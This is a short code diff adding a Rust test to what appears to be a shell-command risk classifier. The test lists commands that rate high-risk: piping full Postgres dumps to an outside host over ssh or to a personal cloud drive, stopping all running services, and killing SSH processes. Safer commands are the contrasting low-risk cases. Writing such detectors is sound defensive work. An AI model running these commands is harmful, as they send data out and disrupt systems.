@@ -274,3 +274,18 @@ fn brace_expansion_and_error_expansions_are_read_as_bash_reads_them() {
         "find . -name '*.log' | xargs truncate -s 0",
     ]);
 }
+
+#[test]
+fn dumps_piped_to_another_machine_and_bulk_stops() {
+    at_least_high(&[
+        "pg_dumpall -U postgres | ssh backup@203.0.113.88 'cat > all.sql'",
+        "pg_dump shop | rclone rcat personal-gdrive:dumps/prod.sql",
+        "systemctl list-units --type=service --state=running --no-legend | awk '{print $1}' | while read svc; do\n  systemctl stop \"$svc\"\ndone",
+        "lsof -t -i :22 | xargs -r kill -9",
+    ]);
+    at_most_medium(&[
+        "pg_dump shop > backup.sql",
+        "lsof -t -i :3000 | xargs -r kill -9",
+        "ssh build@ci.internal 'cat /var/log/build.log' | tail -n 50",
+    ]);
+}
